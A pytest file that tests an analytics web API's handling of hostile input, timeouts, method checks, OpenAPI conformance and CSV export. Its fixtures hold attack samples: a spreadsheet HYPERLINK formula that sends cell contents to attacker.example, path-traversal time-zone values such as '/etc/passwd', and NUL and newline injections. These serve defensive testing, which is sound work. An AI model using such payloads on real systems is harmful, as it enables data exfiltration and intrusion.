"""The Analytics API against hostile input: every refusal is a 4xx naming the parameter
and saying what to change, never a 500, and the service answers correctly afterwards.
Also: the OpenAPI document against the server (schemathesis), the statement timeout
(503 with Retry-After), the bound on raw rows, CSV cells that a spreadsheet would run
as formulas, and 405 with Allow."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime
from decimal import Decimal
from urllib.parse import quote, urlencode

import pytest
import schemathesis
from hypothesis import HealthCheck, settings
from psycopg2.extras import execute_values
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_headers_conformance,
    response_schema_conformance,
    status_code_conformance,
)
from sqlalchemy import text

from db.session import make_engine
from tests.helpers import example_settings
from web.analytics.app import create_app

ADMIN = {"X-API-Key": example_settings().admin_api_keys[0]}
# Product names and categories that a spreadsheet would run as formulas.
PRODUCTS = {
    "p1": ("Plain tea", "tea", Decimal("10.00")),
    "p2": ('=HYPERLINK("http://attacker.example/?"&A1,"Details")', "@SUM(1)", Decimal("5.00")),
    "p3": ("+1 plus", "-minus", Decimal("2.50")),
    "-p4": ("\tTabbed", "\rReturn", Decimal("1.25")),
}
# (product, quantity, moment): 1 June sells more than 2 June, so 2 June's change is negative.
SALES = [
    ("p1", 10, datetime(2025, 6, 1, 9, 30, tzinfo=UTC)),
    ("p2", 3, datetime(2025, 6, 1, 12, 0, tzinfo=UTC)),
    ("p3", 4, datetime(2025, 6, 1, 23, 45, tzinfo=UTC)),
    ("-p4", 8, datetime(2025, 6, 2, 8, 0, tzinfo=UTC)),
    ("p1", 1, datetime(2025, 6, 2, 18, 15, tzinfo=UTC)),
    ("p1", 2, datetime(2025, 5, 10, 10, 0, tzinfo=UTC)),
]
JUNE = {"from": "2025-06-01", "to": "2025-06-30", "tz": "UTC"}
ENDPOINTS = [
    "analytics/summary",
    "analytics/sales",
    "analytics/trends",
    "analytics/products",
    "analytics/categories",
]


class World:
    def __init__(self, url: str):
        self.url = url
        self.engine = make_engine(url)
        self.app = self.make_app()
        self.client = self.app.test_client()

    def make_app(self, **overrides):
        return create_app(example_settings(database_url=self.url, **overrides))

    def june_totals(self) -> dict:
        """The oracle: June's figures summed from SALES in plain Python."""
        june = [(p, q) for p, q, moment in SALES if moment.month == 6]
        revenue = sum(PRODUCTS[p][2] * q for p, q in june)
        return {"revenue": float(revenue), "transactions": len(june)}

    def still_serves(self, client=None) -> None:
        answer = (client or self.client).get("/api/v1/analytics/summary", query_string=JUNE)
        assert answer.status_code == 200, answer.get_json()
        body = answer.get_json()
        assert {k: body[k] for k in ("revenue", "transactions")} == self.june_totals()


def transaction(i: int, product: str, quantity: int, moment: datetime) -> tuple:
    amount = PRODUCTS[product][2] * quantity
    price = PRODUCTS[product][2]
    return (f"t{i}", product, quantity, price, amount, amount, moment, moment, 0, i, bytes(32))


@pytest.fixture(scope="module")
def world(module_database_url) -> World:
    w = World(module_database_url)
    now = datetime.now(UTC)
    with w.engine.begin() as conn:
        cursor = conn.connection.cursor()
        execute_values(
            cursor,
            "INSERT INTO products (product_id, name, category, price, received_at) VALUES %s",
            [(pid, n, c, p, now) for pid, (n, c, p) in PRODUCTS.items()],
        )
        execute_values(
            cursor,
            "INSERT INTO transactions (transaction_id, product_id, quantity, unit_price,"
            " list_amount, total_amount, occurred_at, received_at, kafka_partition,"
            " kafka_offset, content_hash) VALUES %s",
            [transaction(i, *sale) for i, sale in enumerate(SALES)],
        )
    assert w.client.post("/api/v1/admin/rollups/refresh", headers=ADMIN).status_code == 200
    yield w
    w.engine.dispose()


# --- hostile input -------------------------------------------------------------------
def long(n: int) -> str:
    return "x" * n


# (request, where, parameter, words the message must hold): one line per class of input.
HOSTILE = [
    # Time zones that are folders of the zone database, or not names at all.
    ("analytics/summary?tz=America", "query", "tz", "IANA"),
    ("analytics/summary?tz=Europe/", "query", "tz", "IANA"),
    ("analytics/sales?tz=../etc", "query", "tz", "IANA"),
    ("analytics/trends?tz=/etc/passwd", "query", "tz", "IANA"),
    ("reports/daily?tz=UTC%00", "query", "tz", "IANA"),
    ("analytics/products?tz=", "query", "tz", "IANA"),
    (f"analytics/categories?tz={long(5000)}", "query", "tz", "IANA"),
    # Dates at the ends of the calendar, on every date parameter of every endpoint.
    *[(f"{path}?from=0001-01-01", "query", "from", "2000-01-01") for path in ENDPOINTS],
    *[(f"{path}?to=9999-12-31", "query", "to", "2100-12-31") for path in ENDPOINTS],
    *[
        (f"{path}?{urlencode({'to': '9999-12-31T23:59:59-05:00'})}", "query", "to", "2100-12-31")
        for path in ENDPOINTS
    ],
    (
        f"analytics/sales?{urlencode({'from': '0001-01-01T00:00:00+05:00'})}",
        "query",
        "from",
        "2000",
    ),
    ("analytics/summary?from=1999-12-31", "query", "from", "2000-01-01"),
    ("analytics/summary?to=2101-01-01", "query", "to", "2100-12-31"),
    ("reports/daily?date=0001-01-01", "query", "date", "2000-01-01"),
    ("reports/daily?date=9999-12-31", "query", "date", "2100-12-31"),
    # Dates that are not dates.
    ("analytics/summary?from=yesterday", "query", "from", "YYYY-MM-DD"),
    ("analytics/summary?from=2025-01-01%00", "query", "from", "YYYY-MM-DD"),
    ("analytics/summary?from=2025-01-01T25:00", "query", "from", "YYYY-MM-DD"),
    ("analytics/summary?to=20250101", "query", "to", "YYYY-MM-DD"),
    (f"analytics/summary?from=2025-01-01T{long(5000)}", "query", "from", "at most 40"),
    ("reports/daily?date=2025-02-30", "query", "date", "YYYY-MM-DD"),
    ("reports/daily?date=2025-06-01T00:00:00Z", "query", "date", "YYYY-MM-DD"),
    ("analytics/summary?from=2025-02-01&to=2025-01-01", "query", "from", "before"),
    # More periods than ANALYTICS_MAX_PERIODS, refused before anything is computed.
    ("analytics/trends?from=2000-01-01&to=2100-12-31", "query", "granularity", "shorter range"),
    (
        "analytics/sales?from=2000-01-01&to=2100-12-31&granularity=hour",
        "query",
        "granularity",
        "shorter range",
    ),
    # More days of raw rows than ANALYTICS_MAX_RAW_DAYS: one product per year in India.
    (
        "analytics/sales?from=2000-01-01&to=2100-12-31&granularity=year&tz=Asia/Kolkata"
        "&product_id=p1",
        "query",
        "from",
        "ANALYTICS_MAX_RAW_DAYS",
    ),
    # Numbers: beyond bigint, negative, zero, too long to parse, not whole, not numbers.
    ("products?page=99999999999999999999", "query", "page", "between 1 and 1000000"),
    ("products?page=-1", "query", "page", "between 1 and"),
    ("products?page=0", "query", "page", "between 1 and"),
    (f"products?page={'9' * 5000}", "query", "page", "whole number"),
    ("products?per_page=1001", "query", "per_page", "between 1 and 1000"),
    ("products?per_page=1.5", "query", "per_page", "whole number"),
    ("analytics/products?limit=99999999999999999999", "query", "limit", "between 1 and 1000"),
    ("analytics/products?limit=-5", "query", "limit", "between 1 and"),
    ("analytics/products?limit=abc", "query", "limit", "whole number"),
    ("analytics/products?limit=", "query", "limit", "whole number"),
    ("reports/daily?limit=1e400", "query", "limit", "whole number"),
    ("reports/daily?limit=0", "query", "limit", "between 1 and"),
    # Ids: matched whole (no trailing newline), bounded, no NUL; in the query and the path.
    ("analytics/summary?product_id=x%0A", "query", "product_id", "1 to 64"),
    (f"analytics/sales?product_id={long(65)}", "query", "product_id", "1 to 64"),
    ("analytics/trends?product_id=%00", "query", "product_id", "1 to 64"),
    ("analytics/summary?product_id=", "query", "product_id", "1 to 64"),
    ("analytics/summary?product_id=a%20b", "query", "product_id", "1 to 64"),
    ("products/x%0A", "path", "product_id", "1 to 64"),
    (f"products/{long(65)}", "path", "product_id", "1 to 64"),
    ("products/a%00b", "path", "product_id", "1 to 64"),
    (f"products/{quote('é')}", "path", "product_id", "1 to 64"),
    # Categories: NUL, control characters, too long, empty.
    ("analytics/summary?category=%00", "query", "category", "control characters"),
    ("analytics/products?category=a%0Db", "query", "category", "control characters"),
    (f"products?category={long(101)}", "query", "category", "1 to 100"),
    ("products?category=", "query", "category", "1 to 100"),
    # Choices.
    ("analytics/sales?granularity=minute", "query", "granularity", "hour, day, week"),
    ("analytics/trends?granularity=year", "query", "granularity", "day, week, month"),
    ("analytics/products?order_by=price%00", "query", "order_by", "revenue, quantity"),
    ("analytics/categories?format=xml", "query", "format", "json, csv"),
    ("products?format=", "query", "format", "json, csv"),
    # Repeated parameters: ambiguous, refused rather than read as either.
    ("analytics/summary?tz=UTC&tz=Asia/Tokyo", "query", "tz", "once"),
    ("products?page=1&page=2", "query", "page", "once"),
    ("reports/daily?date=2025-06-01&date=2025-06-02", "query", "date", "once"),
]


@pytest.mark.parametrize(("request_path", "where", "field", "words"), HOSTILE)
def test_hostile_input_is_a_4xx_naming_the_parameter(world, request_path, where, field, words):
    answer = world.client.get(f"/api/v1/{request_path}")
    body = answer.get_json()
    assert answer.status_code == 422, body
    assert field in body["errors"][where], body
    assert words in " ".join(body["errors"][where][field]), body
    assert body["message"].startswith(f"{field}: ") and words in body["message"], body
    world.still_serves()


def test_the_ends_of_the_date_range_are_served(world):
    """The documented range is usable to its ends, in zones at the ends of the offsets."""
    whole = {"from": "2000-01-01", "to": "2100-12-31"}
    instants = {"from": "2000-01-01T00:00:00+14:00", "to": "2100-12-31T23:59:59.999999-12:00"}
    questions = [
        ("analytics/summary", whole),
        ("analytics/summary", instants),
        ("analytics/sales", whole | {"granularity": "year"}),
        ("analytics/sales", instants | {"granularity": "year", "category": "tea"}),
        # Trends read one period before `from`; at most ANALYTICS_MAX_PERIODS months.
        ("analytics/trends", {"from": "2000-01-01", "to": "2080-12-31", "granularity": "month"}),
        ("analytics/trends", {"from": "2020-01-01", "to": "2100-12-31", "granularity": "month"}),
        ("analytics/products", instants),
        ("analytics/categories", whole),
        ("reports/daily", {"date": "2000-01-01"}),
        ("reports/daily", {"date": "2100-12-31"}),
    ]
    for tz in ("Pacific/Kiritimati", "Etc/GMT+12", "Asia/Kolkata"):
        for path, query in questions:
            answer = world.client.get(f"/api/v1/{path}", query_string=query | {"tz": tz})
            assert answer.status_code == 200, (path, query, tz, answer.get_json())
        # Two instants at the end, `to` before `from` once in UTC: said so.
        backwards = {"from": "2100-12-31T23:59:59-12:00", "to": "2100-12-31T23:59:59+14:00"}
        answer = world.client.get("/api/v1/analytics/summary", query_string=backwards | {"tz": tz})
        assert answer.status_code == 422 and "before" in answer.get_json()["message"]
    everything = world.client.get("/api/v1/analytics/summary", query_string=whole).get_json()
    assert everything["transactions"] == len(SALES)


# --- bounds: the raw rows an answer reads, the time a statement takes ----------------
def test_an_answer_that_would_read_too_many_raw_days_is_refused(world):
    """India's offset is not whole hours and products have no quarter-hour rollups: one
    product per day there is read from the raw rows, so its range is bounded."""
    client = world.make_app(analytics_max_raw_days=30).test_client()
    long_range = {"from": "2025-05-01", "to": "2025-06-30", "granularity": "day"}
    one_product = long_range | {"tz": "Asia/Kolkata", "product_id": "p1"}
    answer = client.get("/api/v1/analytics/sales", query_string=one_product)
    body = answer.get_json()
    assert answer.status_code == 422, body
    assert {"from", "to", "tz"} <= set(body["errors"]["query"])
    assert "at most 30 days" in body["message"] and "zone (tz)" in body["message"]
    # Within the bound, the same question is answered, and exactly.
    short = one_product | {"from": "2025-06-01"}
    items = client.get("/api/v1/analytics/sales", query_string=short).get_json()["items"]
    assert sum(i["quantity"] for i in items) == sum(
        q for p, q, moment in SALES if p == "p1" and moment.month == 6
    )
    # Where rollups serve the answer, the long range is fine.
    for query in (one_product | {"tz": "UTC"}, long_range | {"tz": "Asia/Kolkata"}):
        answer = client.get("/api/v1/analytics/sales", query_string=query)
        assert answer.status_code == 200, (query, answer.get_json())
    world.still_serves(client)


@pytest.mark.parametrize(
    ("table", "path"),
    [("transactions", "analytics/summary"), ("products", "products")],
)
def test_a_statement_past_the_timeout_is_503_with_retry_after(world, table, path):
    """Another session holds a lock the report needs: the statement waits, is cancelled
    at ANALYTICS_STATEMENT_TIMEOUT_MS, and the client is told to retry."""
    app = world.make_app(analytics_statement_timeout_ms=300)
    client = app.test_client()
    with world.engine.connect() as locker:
        locker.execute(text(f"LOCK TABLE {table} IN ACCESS EXCLUSIVE MODE"))
        started = time.monotonic()
        answer = client.get(f"/api/v1/{path}", query_string=JUNE if table == "transactions" else {})
        waited = time.monotonic() - started
        locker.rollback()
    body = answer.get_json()
    assert answer.status_code == 503, body
    assert int(answer.headers["Retry-After"]) > 0
    assert "retry" in body["message"] and "range" in body["message"]
    assert 0.3 <= waited < 5
    world.still_serves(client)
    # The timeout was the transaction's own: the pooled connection goes back without it.
    with app.extensions["db_engine"]().connect() as conn:
        assert conn.execute(text("SHOW statement_timeout")).scalar() == "0"


# --- CSV -----------------------------------------------------------------------------
def neutral(cell: str) -> str:
    """OWASP's advice for CSV injection, as the oracle."""
    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def read_csv(answer) -> list[dict]:
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))


def test_csv_cells_that_look_like_formulas_are_neutralised(world):
    def get(path, **query):
        json = world.client.get(f"/api/v1/{path}", query_string=query).get_json()
        rows = read_csv(world.client.get(f"/api/v1/{path}", query_string=query | {"format": "csv"}))
        return json, rows

    json, rows = get("analytics/products", **JUNE)
    assert len(rows) == len(json["items"]) == 4
    for row, item in zip(rows, json["items"], strict=True):
        for key in ("product_id", "name", "category"):
            assert row[key] == neutral(item[key]), key
        assert Decimal(row["revenue"]) == Decimal(str(item["revenue"])).quantize(Decimal("0.01"))
    assert {row["name"] for row in rows} >= {"'" + PRODUCTS["p2"][0], "'\tTabbed"}

    json, rows = get("analytics/categories", **JUNE)
    assert sorted(row["category"] for row in rows) == sorted(
        neutral(c) for _, c, _ in PRODUCTS.values()
    )
    assert "'@SUM(1)" in {row["category"] for row in rows}

    json, rows = get("products", per_page=10)
    assert [(r["product_id"], r["name"], r["category"]) for r in rows] == [
        (neutral(i["product_id"]), neutral(i["name"]), neutral(i["category"]))
        for i in json["items"]
    ]

    # Numbers stay numbers: 2 June sold less than 1 June, a negative change, unquoted.
    json, rows = get("analytics/trends", **JUNE, granularity="day")
    second = next(row for row in rows if row["period"] == "2025-06-02")
    expected = next(i for i in json["items"] if i["period"] == "2025-06-02")
    assert expected["change_abs"] < 0 and second["change_abs"].startswith("-")
    assert Decimal(second["change_abs"]) == Decimal(str(expected["change_abs"]))
    assert float(second["change_pct"]) == expected["change_pct"] < 0


def test_the_admin_refresh_takes_nothing_and_refuses_bad_keys(world):
    """It has no parameters: what a client sends besides the key changes nothing."""
    for key in ("", "x" * 100_000, "\x00", ADMIN["X-API-Key"] + " "):
        answer = world.client.post("/api/v1/admin/rollups/refresh", headers={"X-API-Key": key})
        assert answer.status_code == 401 and "X-API-Key" in answer.get_json()["message"]
    answer = world.client.post(
        "/api/v1/admin/rollups/refresh?rows=-1&horizon=%00&x=1&x=2",
        data=b"\x00{not json",
        headers=ADMIN | {"Content-Type": "application/json"},
    )
    assert answer.status_code == 200, answer.get_json()
    assert answer.get_json()["rows"] == 0  # everything was rolled up by the fixture
    world.still_serves()


# --- methods, and the document against the server ------------------------------------
@pytest.mark.parametrize("path", [*ENDPOINTS, "reports/daily", "products", "products/p1"])
def test_undeclared_methods_are_405_with_allow(world, path):
    for method in ("post", "put", "patch", "delete"):
        answer = getattr(world.client, method)(f"/api/v1/{path}")
        assert answer.status_code == 405, (method, answer.get_json())
        assert "GET" in answer.headers["Allow"] and method.upper() not in answer.headers["Allow"]
    answer = world.client.get("/api/v1/admin/rollups/refresh", headers=ADMIN)
    assert answer.status_code == 405 and "POST" in answer.headers["Allow"]
    world.still_serves()


@pytest.fixture(scope="module")
def analytics_openapi(world):
    return schemathesis.openapi.from_wsgi("/openapi.json", world.app)


openapi = schemathesis.pytest.from_fixture("analytics_openapi")
CONFORMANCE = [
    not_a_server_error,
    response_schema_conformance,
    content_type_conformance,  # text/csv where CSV is answered
    status_code_conformance,
    response_headers_conformance,  # Retry-After on 503
]


@openapi.parametrize()
@settings(
    max_examples=20,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
)
def test_the_openapi_document_agrees_with_the_server(case):
    """Requests generated from /openapi.json, valid and not: never a server error, and
    every answer is the one the document describes."""
    case.call_and_validate(headers=ADMIN, checks=CONFORMANCE)
